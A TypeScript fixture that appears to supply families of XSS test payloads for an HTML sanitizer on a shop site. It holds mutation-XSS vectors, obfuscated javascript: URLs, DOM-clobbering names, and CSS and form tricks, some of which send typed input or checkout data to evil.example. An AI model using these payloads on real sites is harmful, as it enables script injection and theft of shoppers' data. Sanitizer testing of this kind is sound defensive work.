/** Hostile fragments in families: a trick with all the names that it works with. */

/** Events that need no shopper, or only a pointer moving over the page. */
const EVENTS = (
  'load error focus blur click mouseover mouseenter pointerover pointerenter pointerrawupdate wheel scroll scrollend ' +
  'resize animationstart animationend animationiteration transitionend transitionrun toggle beforetoggle copy paste cut ' +
  'beforeinput input invalid change submit reset select hashchange pageshow popstate message storage unhandledrejection ' +
  'begin end repeat beforematch contentvisibilityautostatechange securitypolicyviolation'
).split(' ');

/** Elements that fire one of these events by themselves. */
const CARRIERS = (
  'audio body button canvas details dialog embed fieldset form frameset iframe input isindex keygen link marquee math ' +
  'meter object optgroup option output picture portal progress search select slot source summary svg template textarea ' +
  'track video xss a-b'
).split(' ');

/**
 * Content that the browser parses as another language, from which the parser returns to HTML at an unexpected point.
 */
const FOREIGN = [
  '<svg></p><style><a title="</style><img src=x onerror=hostile=1>">',
  '<svg><title><style><img src=x onerror="hostile = 1"></style></title></svg>',
  '<svg><desc><b title="</desc></svg><img src=x onerror=hostile=1>"></desc></svg>',
  '<svg><foreignobject><math><mi><style></math><img src=x onerror="hostile = 1"></style></mi></math></svg>',
  '<svg><![CDATA[</svg><img src=x onerror="hostile = 1">]]></svg>',
  '<svg><set attributeName="href" to="javascript:hostile=1"/><a><text>x</text></a></svg>',
  '<svg><animate onbegin="hostile = 1" attributeName="x" dur="1s"/></svg>',
  '<svg><image href="https://evil.example/a.png" onerror="hostile = 1"/></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hostile = 1</handler></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="hostile = 1"></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile=1&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=hostile=1>">',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hostile=1">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hostile=1 src>">',
  '<table><svg><tr><style><img src=x onerror="hostile = 1"></style></tr></svg></table>',
  '<noembed><p title="</noembed><img src=x onerror=hostile=1>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=hostile=1>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=hostile=1>"></xmp>',
  '<select><template><img src=x onerror="hostile = 1"></template></select>',
  '<table><caption><svg><caption><img src=x onerror="hostile = 1"></caption></svg></caption></table>',
];

/** The beginnings of addresses that aren't the shop's. */
const SCHEMES = [
  'javascript:hostile=1',
  'JAVASCRIPT:hostile=1',
  'javascript&colon;hostile=1',
  'java&NewLine;script:hostile=1',
  '&#x20;javascript:hostile=1',
  '&#0000106avascript:hostile=1',
  'javascript:/*--></title></style></textarea></script><svg/onload=hostile=1>',
  'javascript://shop.test/%0ahostile=1',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"/>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'livescript:hostile=1',
  'mocha:hostile=1',
  'feed:javascript:hostile=1',
  'view-source:https://evil.example/',
  'ws://evil.example/',
  'ftp://evil.example/',
  '/\\evil.example/',
  '&#47;&#47;evil.example/',
  'https:evil.example@evil.example/',
];

/** Names with which an element could replace something of the page or of the widgets. */
const NAMES = (
  'cbWidgets dataLayer cb-state cb-live location document body head cookie forms querySelector getElementById ' +
  'createElement attributes childNodes parentNode nodeName innerHTML removeChild ownerDocument'
).split(' ');

/** Styles and elements that would cover the page, change its look, or send typed text elsewhere. */
const LOOKS = [
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="position:absolute;top:0;left:0;width:9999px;height:9999px">x</div>',
  '<p style="width:expression(hostile=1)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/a.xml#a)">x</p>',
  '<p style=behavior:url(evil.htc)>x</p>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>',
  '<link rel="preload" as="image" href="https://evil.example/a.png">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta http-equiv="set-cookie" content="a=1">',
  '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</td></tr></table>',
  '<img dynsrc="https://evil.example/a" lowsrc="https://evil.example/b" longdesc="https://evil.example/c">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<video poster="https://evil.example/a.png"></video>',
  '<picture><source srcset="https://evil.example/a.png"><img></picture>',
  '<a href="/promo" ping="https://evil.example/ping">Sale</a>',
  '<a href="/promo" download="invoice.exe">Sale</a>',
  '<img src="/a.png" usemap="#m" ismap crossorigin="use-credentials" attributionsrc="https://evil.example">',
  '<input type="image" src="https://evil.example/a.png">',
  '<button form="checkout" formaction="https://evil.example/" popovertarget="x">Pay</button>',
  '<dialog open><form method="dialog"><input name="card"></form></dialog>',
  '<div popover id="p">Your session has ended</div>',
  '<p contenteditable="true" accesskey="s" dir="rtl" lang="x" hidden draggable="true" slot="x" is="x-y">x</p>',
];

const family = (name: string, members: readonly string[], write: (member: string) => string) =>
  Object.fromEntries(members.map((member) => [`${name}: ${member}`, write(member)]));

/** All of them, by family and member. */
export const FAMILIES: Record<string, string> = {
  ...family('handler of an image', EVENTS, (event) => `<img src=x on${event}="hostile = 1">`),
  ...family(
    'handler of an element',
    CARRIERS,
    (tag) =>
      `<${tag} onload="hostile = 1" onfocus="hostile = 1" autofocus src=x onerror="hostile = 1">x</${tag}>`,
  ),
  ...family('other language', FOREIGN, (fragment) => fragment),
  ...family('link', SCHEMES, (scheme) => `<a href="${scheme}">click</a>`),
  ...family('name', NAMES, (name) => `<a id="${name}" name="${name}">x</a><img name="${name}" id="${name}">`),
  ...family('looks', LOOKS, (fragment) => fragment),
};
